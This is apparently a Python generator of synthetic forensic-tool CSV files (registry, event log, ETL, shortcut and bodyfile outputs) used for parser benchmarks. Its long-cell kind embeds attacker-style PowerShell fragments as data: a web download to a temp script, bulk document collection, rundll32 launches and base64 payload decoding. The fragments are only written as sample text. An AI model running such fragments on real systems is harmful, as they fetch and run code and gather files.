#!/usr/bin/env python3
"""Makes banner-headed source CSVs of any size for the benchmarks, fast.

Each kind imitates one family of artifact-tool output: the banner (title, licence, run time,
command line, rule), tag lines, several groups with their own header rows, quoted fields with
the separator inside, and the kind's encoding and line ends. Evidence values are invented.

Rows come from a pool of a few thousand distinct rows per group layout, made once and then
written in large slices, so that a 2 GB file costs little more than the disk writes. A file is
written under a temporary name and renamed when complete; its .meta.json (sizes and row
counts) is written last, so a run cut short leaves nothing that looks finished.

  gen_csv.py file KIND SIZE OUT [--plain PLAIN] [--seed N]
  gen_csv.py pipe COUNT DIR [--seed N]
  gen_csv.py names COUNT OUT
  gen_csv.py groups COUNT OUT [--one-title]

KIND is registry, etl, evt_utf16, lnk, bodyfile or long_cells; SIZE is bytes with an optional K, M or G
suffix (1M .. 2G and beyond). --plain also writes the data rows under the first group's header
row, without banner, tags or later header rows (the input of plain-CSV tools; every kind keeps
one column count across its groups). `pipe` writes COUNT small sources of every
kind (1 to 16 KiB) into DIR with a names.txt listing them. `names` writes a registry source
whose second group has COUNT columns, all but the first two without a name (every name the JSON writer
makes unique), `groups` one of COUNT groups of one row each, titled each its own way or, with
--one-title, all alike (one database table).
"""

import argparse
import base64
import json
import os
import random
import sys

RULE = "-" * 79
LAB = "Tidewater State Crime Laboratory"
POOL_ROWS = 4096


def parse_size(text):
    units = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
    text = text.strip().upper().removesuffix("B")
    if text and text[-1] in units:
        return int(float(text[:-1]) * units[text[-1]])
    return int(text)


def csv_field(value, sep):
    """Quotes a field that holds the separator or a quote, doubling inner quotes."""
    if sep in value or '"' in value:
        return '"' + value.replace('"', '""') + '"'
    return value


class Clock:
    """Timestamps that move forward by a random step per row."""

    def __init__(self, rng, start=1704067200):
        self.rng = rng
        self.now = start

    def tick(self):
        self.now += self.rng.randint(1, 900)
        return self.now

    def parts(self, sep_date="-", millis=False):
        t = self.tick()
        days, rest = divmod(t, 86400)
        y, m, d = civil_from_days(days)
        hh, rest = divmod(rest, 3600)
        mm, ss = divmod(rest, 60)
        date = f"{y:04d}{sep_date}{m:02d}{sep_date}{d:02d}"
        clock = f"{hh:02d}:{mm:02d}:{ss:02d}"
        if millis:
            clock += f".{self.rng.randint(0, 999):03d}"
        return date, clock


def civil_from_days(z):
    z += 719468
    era = z // 146097
    doe = z - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    y = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    return y + (m <= 2), m, d


USERS = ["akeller", "bnorris", "cvance", "dokafor", "eliang", "fmorales", "gpetrov", "jörg.brandt",
         "zoë.lambert", "tanaka.haruto", "svc_backup", "Administrator"]
HOSTS = ["WKS-0231", "WKS-0417", "LAP-7781", "SRV-FILE02", "SRV-DC01", "KIOSK-3"]
VENDORS = ["Northwind Systems", "Bluegate Software", "Corvel Labs", "Ironleaf Ltd", "Pinecrest Tools",
           "Quillon Media", "Sablewood Inc", "Tarragon Data"]
PRODUCTS = ["SyncDesk", "NoteHarbor", "PixelForge", "LedgerLite", "MailPost", "ZipCrate",
            "ScreenJot", "VaultKey", "PrintHub", "MeetLine", "CodePad", "DriveMirror"]
FOLDERS = ["Program Files", "Program Files (x86)", "ProgramData", "Windows\\System32",
           "Users\\{user}\\AppData\\Local", "Users\\{user}\\AppData\\Roaming", "Users\\{user}\\Downloads"]
WORDS = ["update", "helper", "agent", "service", "launcher", "monitor", "tray", "sync", "cache",
         "loader", "bridge", "watch", "host", "scan", "relay"]
SSIDS = ["Harborview-Guest", "TIDEWATER-CORP", "CafeLumen", "AirportFree", "home-5G", "Lab-Isolated"]


def win_path(rng, ext):
    folder = rng.choice(FOLDERS).replace("{user}", rng.choice(USERS))
    product = rng.choice(PRODUCTS)
    return f"C:\\{folder}\\{product}\\{product.lower()}{rng.choice(WORDS)}.{ext}"


# ---- registry (dorvel): comma-separated, "Artifact:"/"Registry key:" groups, six columns.

REGISTRY_GROUPS = [
    ("Run keys", "Microsoft\\Windows\\CurrentVersion\\Run",
     ["date", "time", "value name", "value data", "user", "key path"]),
    ("Uninstall entries", "Microsoft\\Windows\\CurrentVersion\\Uninstall",
     ["date", "time", "display name", "version", "publisher", "install location"]),
    ("Services", "ControlSet001\\Services",
     ["date", "time", "service name", "display name", "image path", "start type"]),
    ("USB storage", "ControlSet001\\Enum\\USBSTOR",
     ["date", "time", "vendor", "product", "serial number", "friendly name"]),
    ("Network profiles", "Microsoft\\Windows NT\\CurrentVersion\\NetworkList\\Profiles",
     ["date", "time", "profile name", "description", "first connect", "category"]),
    ("Scheduled tasks", "Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree",
     ["date", "time", "task path", "task id", "author", "actions"]),
]


def registry_values(rng, group, clock):
    date, clock_text = clock.parts()
    name = group[0]
    if name == "Run keys":
        exe = win_path(rng, "exe")
        data = exe if rng.random() < 0.7 else f"rundll32.exe {win_path(rng, 'dll')},Start {rng.randint(1, 9)}"
        return [date, clock_text, f"{rng.choice(PRODUCTS)}{rng.choice(WORDS).title()}", data,
                rng.choice(USERS), group[1]]
    if name == "Uninstall entries":
        product = rng.choice(PRODUCTS)
        return [date, clock_text, f"{product} {rng.randint(1, 12)}.{rng.randint(0, 9)}",
                f"{rng.randint(1, 12)}.{rng.randint(0, 99)}.{rng.randint(0, 9999)}",
                rng.choice(VENDORS) + (", Inc." if rng.random() < 0.15 else ""),
                f"C:\\Program Files\\{product}\\"]
    if name == "Services":
        word = rng.choice(WORDS)
        return [date, clock_text, f"{word}{rng.randint(1, 99)}svc", f"{rng.choice(PRODUCTS)} {word.title()} Service",
                win_path(rng, "exe") + (" -k netsvcs,-p" if rng.random() < 0.2 else ""),
                rng.choice(["auto", "demand", "disabled", "boot"])]
    if name == "USB storage":
        vendor = rng.choice(["SanStore", "KingByte", "Veridisk", "Transcorp"])
        return [date, clock_text, vendor, f"Flash Drive {rng.choice(['2.0', '3.0', '3.1'])}",
                "".join(rng.choice("0123456789ABCDEF") for _ in range(16)),
                f"{vendor} Flash Drive USB Device"]
    if name == "Network profiles":
        ssid = rng.choice(SSIDS)
        return [date, clock_text, ssid, f"{ssid} ({rng.choice(['wireless', 'wired'])}, managed)",
                f"{date} {clock_text}", rng.choice(["public", "private", "domain"])]
    return [date, clock_text, f"\\{rng.choice(VENDORS).split()[0]}\\{rng.choice(PRODUCTS)} {rng.choice(WORDS)}",
            "{%08X-%04X-%04X-%04X-%012X}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
                                             rng.getrandbits(16), rng.getrandbits(48)),
            rng.choice(VENDORS), win_path(rng, "exe") + (" /run,/quiet" if rng.random() < 0.3 else "")]


# ---- ETL (plivet): " | "-separated, CR LF, "file:"/"orig source path:" lines per group.

ETL_COLUMNS = ["date", "time", "session name", "provider", "event id", "level", "pid", "tid",
               "keyword", "task", "message"]


def etl_values(rng, group, clock):
    date, clock_text = clock.parts(millis=True)
    ssid = rng.choice(SSIDS)
    msg = rng.choice([f"connected to SSID {ssid}", f"disconnected from SSID {ssid} (reason: roaming)",
                      f"scan found {rng.randint(1, 40)} networks", f"security stop: WPA2 | key exchange timeout",
                      f"profile {ssid} applied by {rng.choice(USERS)}"])
    return [date, clock_text, group, "Microsoft-Windows-WLAN-AutoConfig", str(rng.choice([8001, 8003, 11004, 11005, 12011])),
            rng.choice(["info", "warning", "error"]), str(rng.randint(400, 9000)), str(rng.randint(400, 9000)),
            "0x%016X" % (1 << rng.randint(56, 63)), rng.choice(["connect", "disconnect", "scan", "security"]), msg]


# ---- event log (hasmir): UTF-16LE with its mark, CR LF, comma-separated.

EVT_COLUMNS = ["date", "time", "EventID", "Channel", "Computer", "Level", "Description"]


def evt_values(rng, group, clock):
    date, clock_text = clock.parts(millis=True)
    user = rng.choice(USERS)
    event_id, text = rng.choice([
        (4624, f"An account was successfully logged on: {user} from 198.51.100.{rng.randint(1, 254)} (logon type {rng.choice([2, 3, 10])})"),
        (4625, f"An account failed to log on: {user}, reason: unknown user name or bad password"),
        (4688, f"A new process has been created: {win_path(rng, 'exe')}"),
        (7045, f"A service was installed: {rng.choice(PRODUCTS)} Helper, image {win_path(rng, 'exe')}"),
        (1102, f"The audit log was cleared: subject {rng.choice(HOSTS)}\\{user}"),
    ])
    return [date, clock_text, str(event_id), group, f"{rng.choice(HOSTS)}.tidewater.local",
            rng.choice(["info", "warning"]), text]


# ---- shortcut files (ulfen): UTF-8 mark, 21 columns, nested "!*<" cells.

LNK_COLUMNS = ["source path", "source modified", "source accessed", "source created", "target modified",
               "target accessed", "target created", "file size", "drive type", "volume serial", "volume label",
               "local path", "network path", "working dir", "arguments", "icon location", "machine id",
               "droid volume", "droid file", "tracker mac", "IDList segments"]


def lnk_values(rng, group, clock):
    user = rng.choice(USERS)
    times = [" ".join(clock.parts()) for _ in range(6)]
    product = rng.choice(PRODUCTS)
    target_parts = ["Users", user, "Documents", f"{product.lower()}_{rng.randint(1, 999)}.docx"]
    nested = "!*<[type;value]><root;My Computer><volume;C:\\>" + "".join(
        f"<{'file' if i == len(target_parts) - 1 else 'folder'};{part}>" for i, part in enumerate(target_parts))
    mac = ":".join("%02x" % rng.getrandbits(8) for _ in range(6))
    guid = "{%08x-%04x-11ee-%04x-%012x}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
                                           rng.getrandbits(48))
    return [f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{target_parts[-1]}.lnk",
            times[0], times[1], times[2], times[3], times[4], times[5], str(rng.randint(1000, 9_000_000)),
            rng.choice(["fixed", "removable", "network"]), "%04X-%04X" % (rng.getrandbits(16), rng.getrandbits(16)),
            rng.choice(["OS", "DATA", "TRANSFER"]), "C:\\" + "\\".join(target_parts), "",
            "C:\\" + "\\".join(target_parts[:-1]), "" if rng.random() < 0.8 else "/view,/readonly",
            "", rng.choice(HOSTS).lower(), guid, guid, mac, nested]


# ---- bodyfile (fendral with -bodyfile): "|"-separated, eleven columns, one group.

BODY_COLUMNS = ["md5", "name", "inode", "mode as string", "uid", "gid", "size", "access time",
                "modify time", "mft time", "create time"]


def body_values(rng, group, clock):
    t = clock.tick()
    folder = rng.choice(FOLDERS).replace("{user}", rng.choice(USERS)).replace("\\", "/")
    name = f"/{folder}/{rng.choice(PRODUCTS)}/{rng.choice(WORDS)}{rng.randint(1, 500)}.{rng.choice(['exe', 'dll', 'dat', 'log', 'json'])}"
    if rng.random() < 0.1:
        name += " ($FILE_NAME)"
    mode = "d/drwxrwxrwx" if rng.random() < 0.1 else "r/rrwxrwxrwx"
    return ["0", name, str(rng.randint(30, 2_000_000)), mode, "0", "0", str(rng.randint(0, 50_000_000)),
            str(t + rng.randint(0, 5000)), str(t), str(t + rng.randint(0, 100)), str(t - rng.randint(0, 10_000_000))]


# ---- long cells (hasmir): descriptions that carry whole scripts or encoded blobs of 1 KiB to
# 1 MiB, comma-separated, quoted where they hold commas or quotes.

SCRIPT_STATEMENTS = [
    '$path = "C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.ps1"',
    'if ($env:COMPUTERNAME -ne "{host}") {{ exit 1 }}',
    'Invoke-WebRequest -Uri "https://cdn.example.net/{word}?id={n}&k=7" -OutFile $path',
    'Get-ChildItem -Path C:\\Users -Recurse -Include *.docx,*.xlsx | Where-Object {{ $_.Length -gt {n} }}',
    'Start-Process -FilePath "rundll32.exe" -ArgumentList "{word}.dll,Start <{n}>"',
    'Write-Host "copied {n} files & removed the log"',
    '$data = [Convert]::FromBase64String($blob); [IO.File]::WriteAllBytes($path, $data)',
]


def long_cell_text(rng):
    """A script block or an encoded blob of 1 KiB to 1 MiB (spread evenly over the powers of two)."""
    length = int(2 ** rng.uniform(10, 20))
    if rng.random() < 0.5:
        piece = "Encoded payload: " + base64.b64encode(rng.randbytes(3 << 10)).decode()
    else:
        statements = [rng.choice(SCRIPT_STATEMENTS).format(user=rng.choice(USERS), host=rng.choice(HOSTS),
                                                          word=rng.choice(WORDS), n=rng.randint(1, 99999))
                      for _ in range(48)]
        piece = "Creating Scriptblock text (1 of 1): " + "; ".join(statements) + "; "
    return (piece * (length // len(piece) + 1))[:length]


def long_cell_values(rng, group, clock):
    date, clock_text = clock.parts(millis=True)
    return [date, clock_text, str(rng.choice([4103, 4104, 4688])), group, f"{rng.choice(HOSTS)}.tidewater.local",
            rng.choice(["info", "warning"]), long_cell_text(rng)]


class Kind:
    def __init__(self, tool, version, cmd, sep_text, newline, encoding, bom, columns_of, values, groups,
                 group_lines, prelude=(), pool_rows=POOL_ROWS):
        self.tool = tool
        self.version = version
        self.cmd = cmd
        self.sep_text = sep_text          # what stands between fields
        self.sep = sep_text.strip() or sep_text
        self.newline = newline
        self.encoding = encoding
        self.bom = bom
        self.columns_of = columns_of      # group -> column names
        self.values = values              # (rng, group, clock) -> field texts
        self.groups = groups              # group keys, cycled
        self.group_lines = group_lines    # group -> tag lines before its header row
        self.prelude = prelude            # tag lines after the banner, once
        self.pool_rows = pool_rows        # distinct rows per group layout

    def banner(self):
        return [f"{self.tool} - 64 ver: {self.version}; (c) Quazel LLC",
                f"License: L9f4 issued to {LAB}",
                "Run time: 2024-05-20 09:41:17; UTC",
                f"cmd line: {self.cmd};",
                RULE] + list(self.prelude)

    def encode(self, lines):
        return "".join(line + self.newline for line in lines).encode(self.encoding)

    def row(self, rng, group, clock):
        return self.sep_text.join(csv_field(v, self.sep) for v in self.values(rng, group, clock))


KINDS = {
    "registry": Kind("dorvel", "1.34", "dorvel64 -hive /cases/2024-0311/SOFTWARE -csv", ",", "\n", "utf-8", b"",
                     lambda g: g[2], registry_values, REGISTRY_GROUPS,
                     lambda g: [f"Artifact: {g[0]}", f"Registry key: {g[1]}"],
                     prelude=["Hive Location: /cases/2024-0311/SOFTWARE"]),
    "etl": Kind("plivet", "0.95", "plivet64 -log /cases/2024-0311/logs/Wifi.etl -csv", " | ", "\r\n", "utf-8", b"",
                lambda g: ETL_COLUMNS, etl_values, ["WiFiSession", "WlanSvcTrace", "NetProfTrace"],
                lambda g: [f"file: /cases/2024-0311/logs/{g}.etl",
                           f"orig source path: C:\\Windows\\System32\\LogFiles\\WMI\\{g}.etl"]),
    "evt_utf16": Kind("hasmir", "1.61", "hasmir64 -log /cases/2024-0311/logs/Security.evtx -csv", ",", "\r\n",
                      "utf-16-le", b"\xff\xfe", lambda g: EVT_COLUMNS, evt_values,
                      ["Security", "System", "Application"], lambda g: []),
    "lnk": Kind("ulfen", "2.07", "ulfen64 -dir /cases/2024-0311/Users/Recent -csv", ",", "\n", "utf-8",
                b"\xef\xbb\xbf", lambda g: LNK_COLUMNS, lnk_values, ["Recent"], lambda g: []),
    "bodyfile": Kind("fendral", "3.11", "fendral64 -mft /cases/2024-0311/$MFT -bodyfile", "|", "\n", "utf-8", b"",
                     lambda g: BODY_COLUMNS, body_values, ["mft"], lambda g: []),
    # Rows of 150 KiB on average: a small pool keeps the generator's memory low.
    "long_cells": Kind("hasmir", "1.61", "hasmir64 -log /cases/2024-0311/logs/PowerShell.evtx -csv", ",", "\n",
                       "utf-8", b"", lambda g: EVT_COLUMNS, long_cell_values,
                       ["Microsoft-Windows-PowerShell/Operational", "Security"], lambda g: [], pool_rows=64),
}


class Pool:
    """Encoded rows of one group layout, doubled so that any run of rows is one slice."""

    def __init__(self, kind, group, rng, rows=POOL_ROWS):
        clock = Clock(rng, 1704067200 + rng.randint(0, 10_000_000))
        encoded = [kind.encode([kind.row(rng, group, clock)]) for _ in range(rows)]
        self.count = rows
        self.text = b"".join(encoded) * 2
        self.offsets = [0]
        for piece in encoded + encoded:
            self.offsets.append(self.offsets[-1] + len(piece))
        self.bytes = self.offsets[rows]

    def slices(self, start, rows):
        """Yields slices holding rows rows from pool row start on."""
        while rows > 0:
            take = min(rows, self.count)
            yield self.text[self.offsets[start]:self.offsets[start + take]]
            rows -= take


def write_source(kind_name, size, out_path, plain_path=None, seed=1):
    """Writes one source of about size bytes; returns its metadata."""
    kind = KINDS[kind_name]
    rng = random.Random(seed)
    pools = {}
    single_group = len(kind.groups) == 1 and kind_name in ("lnk", "bodyfile")
    tmp_out = out_path + ".part"
    tmp_plain = plain_path + ".part" if plain_path else None
    meta = {"kind": kind_name, "tool": kind.tool, "separator": kind.sep, "encoding": kind.encoding,
            "groups": 0, "data_rows": 0}
    written = 0
    with open(tmp_out, "wb", buffering=1 << 20) as out, \
            (open(tmp_plain, "wb", buffering=1 << 20) if tmp_plain else open(os.devnull, "wb")) as plain:
        head = kind.bom + kind.encode(kind.banner())
        out.write(head)
        written += len(head)
        group_index = 0
        while written < size:
            group = kind.groups[group_index % len(kind.groups)]
            key = group[0] if isinstance(group, tuple) else group
            if key not in pools:
                pools[key] = Pool(kind, group, random.Random(rng.getrandbits(32)), kind.pool_rows)
            pool = pools[key]
            columns = kind.columns_of(group)
            lines = [] if group_index == 0 else [RULE]
            lines += kind.group_lines(group)
            lines.append(kind.sep_text.join(columns))
            block = kind.encode(lines)
            out.write(block)
            written += len(block)
            if group_index == 0:
                plain.write(kind.encode([kind.sep_text.join(columns)]))
            # Group sizes spread from a few rows to many megabytes, as real runs give them.
            remaining_rows = max(1, (size - written) * pool.count // pool.bytes)
            if single_group:
                rows = remaining_rows
            else:
                rows = min(remaining_rows, int(2 ** rng.uniform(3, 17)))
            for piece in pool.slices(rng.randrange(pool.count), rows):
                out.write(piece)
                plain.write(piece)
                written += len(piece)
            meta["groups"] += 1
            meta["data_rows"] += rows
            group_index += 1
            if single_group:
                break
    os.replace(tmp_out, out_path)
    meta["bytes"] = os.path.getsize(out_path)
    if plain_path:
        os.replace(tmp_plain, plain_path)
        meta["plain_bytes"] = os.path.getsize(plain_path)
    with open(out_path + ".meta.json", "w") as f:
        json.dump(meta, f, indent=1)
    return meta


def write_pipe_set(count, folder, seed=1):
    """Writes count small sources of every kind into folder, and names.txt listing them."""
    os.makedirs(folder, exist_ok=True)
    rng = random.Random(seed)
    names = []
    # The long-cell kind has rows of 150 KiB on average: no small source can hold one.
    kinds = sorted(name for name in KINDS if name != "long_cells")
    total = 0
    for i in range(count):
        kind_name = kinds[i % len(kinds)]
        size = int(2 ** rng.uniform(10, 14))
        path = os.path.join(folder, f"{kind_name}_{i:05d}.csv")
        total += write_source_small(kind_name, size, path, rng)
        names.append(path)
    with open(os.path.join(folder, "names.txt.part"), "w") as f:
        f.write("".join(os.path.abspath(n) + "\n" for n in names))
    os.replace(os.path.join(folder, "names.txt.part"), os.path.join(folder, "names.txt"))
    return {"files": count, "bytes": total}


def write_source_small(kind_name, size, path, rng):
    """One small source with fresh rows (no pool): a banner, one or two groups."""
    kind = KINDS[kind_name]
    clock = Clock(rng)
    lines = kind.banner()
    group_count = 1 if kind_name in ("lnk", "bodyfile") else rng.randint(1, 2)
    data = bytearray(kind.bom)
    for g in range(group_count):
        group = rng.choice(kind.groups)
        if g:
            lines.append(RULE)
        lines += kind.group_lines(group)
        lines.append(kind.sep_text.join(kind.columns_of(group)))
        data += kind.encode(lines)
        lines = []
        limit = size * (g + 1) // group_count
        while len(data) < limit:
            data += kind.encode([kind.row(rng, group, clock)])
    with open(path, "wb") as f:
        f.write(data)
    return len(data)


def write_with_meta(out_path, data, meta):
    """Writes data to out_path, then its .meta.json (meta with the byte count); returns meta."""
    with open(out_path + ".part", "wb") as f:
        f.write(data)
    os.replace(out_path + ".part", out_path)
    meta["bytes"] = len(data)
    with open(out_path + ".meta.json", "w") as f:
        json.dump(meta, f, indent=1)
    return meta


def write_repeated_names(count, out_path):
    """A registry source whose second group has count columns, all but two without a name, three rows."""
    kind = KINDS["registry"]
    lines = kind.banner() + ["Artifact: Run keys", "date,time,value name", "2024-05-20,09:41:17,one", RULE,
                             "Artifact: Wide", "date,time" + "," * (count - 2)]
    lines += [",".join([f"r{row}"] * count) for row in range(3)]
    return write_with_meta(out_path, kind.encode(lines), {"names": count, "data_rows": 4})


def write_many_groups(count, out_path, one_title):
    """A registry source of count groups of one row each."""
    kind = KINDS["registry"]
    lines = kind.banner()
    for i in range(count):
        if i:
            lines.append(RULE)
        lines += [f"Artifact: {'Run keys' if one_title else f'Group {i}'}", "date,time,value name,value data",
                  f"2024-05-20,09:41:17,name {i},data {i}"]
    return write_with_meta(out_path, kind.encode(lines), {"groups": count, "one_title": one_title, "data_rows": count})


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    one = sub.add_parser("file")
    one.add_argument("kind", choices=sorted(KINDS))
    one.add_argument("size")
    one.add_argument("out")
    one.add_argument("--plain")
    one.add_argument("--seed", type=int, default=1)
    many = sub.add_parser("pipe")
    many.add_argument("count", type=int)
    many.add_argument("dir")
    many.add_argument("--seed", type=int, default=1)
    wide = sub.add_parser("names")
    wide.add_argument("count", type=int)
    wide.add_argument("out")
    grouped = sub.add_parser("groups")
    grouped.add_argument("count", type=int)
    grouped.add_argument("out")
    grouped.add_argument("--one-title", action="store_true")
    args = parser.parse_args(argv)
    if args.command == "file":
        meta = write_source(args.kind, parse_size(args.size), args.out, args.plain, args.seed)
    elif args.command == "names":
        meta = write_repeated_names(args.count, args.out)
    elif args.command == "groups":
        meta = write_many_groups(args.count, args.out, args.one_title)
    else:
        meta = write_pipe_set(args.count, args.dir, args.seed)
    print(json.dumps(meta))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
